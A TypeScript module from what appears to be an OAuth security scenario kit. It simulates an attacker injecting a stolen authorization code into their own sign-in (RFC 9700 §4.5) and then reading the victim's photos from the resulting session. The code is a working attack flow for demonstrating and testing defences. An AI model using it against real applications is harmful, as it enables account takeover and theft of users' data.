/** The attacker as somebody who uses the app: a stolen code goes into a sign-in of the attacker’s own (RFC 9700 §4.5). */
import type { HttpResponse } from '../../http/index.ts'
import { type PlainBrowser, redirectOf } from '../../scenario-kit/parties/plain-browser.ts'
import type { Loot } from './attacker.ts'

/** A sign-in that the attacker has begun, as its authorization request says. */
export interface OwnSignIn {
  readonly state: string
  readonly code_challenge?: string
}

/** Has the app begin a sign-in at the honest server, and goes no further. */
export async function beginOwnSignIn(browser: PlainBrowser, app: string, server: string): Promise<OwnSignIn> {
  // #region own-sign-in
  const request = redirectOf(await browser.get(`${app}/login/${server}`)).searchParams
  const code_challenge = request.get('code_challenge')
  return { state: request.get('state') ?? '', ...(code_challenge !== null && { code_challenge }) }
  // #endregion
}

/** Brings the app the stolen code as the response to that sign-in, and opens the photos in the session that comes of it. */
export async function injectCode(
  browser: PlainBrowser,
  callback: string,
  { state, loot, iss }: { readonly state: string; readonly loot: Loot; readonly iss: string },
): Promise<void> {
  // #region injection
  const address = new URL(callback)
  address.search = new URLSearchParams({ code: loot.code ?? '', state, iss }).toString()
  const answer: HttpResponse = await browser.get(address.href)
  if (answer.status >= 400) return
  loot.photos = (await browser.get(`${address.origin}/photos`)).body
  // #endregion
}
